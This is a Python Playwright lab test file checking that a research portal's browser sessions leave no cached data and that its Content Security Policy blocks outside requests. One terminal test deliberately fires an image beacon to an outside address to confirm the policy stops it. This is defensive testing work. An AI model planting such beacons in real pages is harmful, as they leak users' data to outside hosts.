"""What a person's browser keeps of a session: nothing that came from the data."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from playwright.sync_api import Page

from kakehashi.verify.canary import Canary
from kakehashi.verify.profile import STATIC, answers_kept
from tests.lab import verify
from tests.lab.browser import OwnBrowser
from tests.lab.lab import Lab

pytestmark = pytest.mark.lab


@pytest.fixture
def own_browser(lab: Lab, tmp_path: Path) -> Iterator[OwnBrowser]:
    """Give the canary a browser with a fresh profile."""
    # Chromium's socket is in its temporary folder, and its path has to fit in 107 bytes.
    with TemporaryDirectory(prefix="browser-", dir="/tmp") as home:
        yield OwnBrowser(lab.url, verify.PERSON, Path(home), shots=tmp_path)


def test_a_browser_keeps_nothing_of_a_session(lab: Lab, own_browser: OwnBrowser) -> None:
    report = Canary(verify.deployment(lab, browser=own_browser)).run()
    assert [one for one in report["findings"] if one["host"] == "browser"] == []
    assert report["ok"], report
    assert report["browser_searched"]
    for control in ("cache", "cache, packed", "storage"):
        assert report["control"][f"browser: {control}"] > 0
    # Neither notebook nor viewer asked for anything that the pages' policy forbids.
    (canary,) = own_browser.seen
    assert canary.errors == []
    assert [text for text in canary.console if "Content Security Policy" in text] == []
    assert canary.outside == []
    # The browser does keep what the portal lets it: the search of its cache is not blind.
    kept = answers_kept(own_browser.folders[0], lab.url)
    assert any(path.startswith("/hub/") for path in kept if STATIC.match(path))
    assert any(path.startswith("/user/") for path in kept if STATIC.match(path))


def test_a_terminal_works_under_the_policy_and_a_stop_clears_the_origins_storage(
    own_browser: OwnBrowser,
) -> None:
    forbidden = "Content Security Policy"
    with own_browser.open() as canary:
        said: list[str] = []
        canary.page.on(
            "websocket",
            lambda socket: socket.on("framereceived", lambda frame: said.append(str(frame))),
        )
        canary.log_in()
        canary.spawn(project="canary", site="slurm", queue="gpu")
        canary.page.locator(".jp-LauncherCard", has_text="Terminal").click()
        canary.page.locator(".jp-Terminal .xterm").wait_for()
        canary.page.locator(".jp-Terminal .xterm").click()
        canary.page.keyboard.type("echo $((6 * 7))$((1 + 1))\n")
        assert wait_for_page(canary.page, lambda: any("422" in text for text in said))
        canary.shot("terminal")
        assert canary.page.evaluate("localStorage.length") > 0
        assert canary.errors == []
        assert canary.outside == []
        assert [text for text in canary.console if forbidden in text] == []
        # What an output would do to tell somebody else.
        canary.page.evaluate("new Image().src = 'https://10.77.1.10:9/?told'; 0")
        assert wait_for_page(canary.page, lambda: any(forbidden in one for one in canary.console))
        canary.stop()
        assert canary.page.evaluate("localStorage.length") == 0


def wait_for_page(page: Page, condition: Callable[[], bool]) -> bool:
    """Wait until what a page's events tell holds; they are heard only while it is asked."""
    deadline = time.monotonic() + 30
    while not condition() and time.monotonic() < deadline:
        page.evaluate("() => new Promise(requestAnimationFrame)")
    return condition()
